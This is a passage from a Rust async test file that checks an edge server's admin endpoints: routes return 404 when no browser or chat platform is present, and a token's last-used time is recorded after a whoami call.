        ])
    );
    // Without a browser there are no sessions to list.
    assert_eq!(
        get(edge.addr, "/admin/browser", &[&bearer(&admin)])
            .await
            .status,
        404
    );
    edge.stop().await;
}

#[tokio::test]
async fn without_a_chat_platform_pairing_is_not_found() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let fresh = fresh_cookie(&edge).await;
    assert_eq!(
        get(edge.addr, "/admin/pairing", &[&fresh]).await.status,
        404
    );
    edge.stop().await;
}

#[tokio::test]
async fn a_tokens_first_use_of_the_day_is_listed() {
    let edge = TestEdge::start(HIGH_LIMITS).await;
    let fresh = fresh_cookie(&edge).await;
    let chat = edge.token(TokenScope::Chat).await;
    let last_used = || async {
        let listed = json(&get(edge.addr, "/admin/tokens", &[&fresh]).await.body);
        listed["tokens"][0]["last_used_at"].clone()
    };
    assert_eq!(last_used().await, Value::Null);
    assert_eq!(
        get(edge.addr, "/auth/whoami", &[&bearer(&chat)])
            .await
            .status,
        200
    );
    let used: chrono::DateTime<Utc> = serde_json::from_value(last_used().await).unwrap();
    assert!((Utc::now() - used).num_seconds() < 60, "{used}");
    edge.stop().await;
}
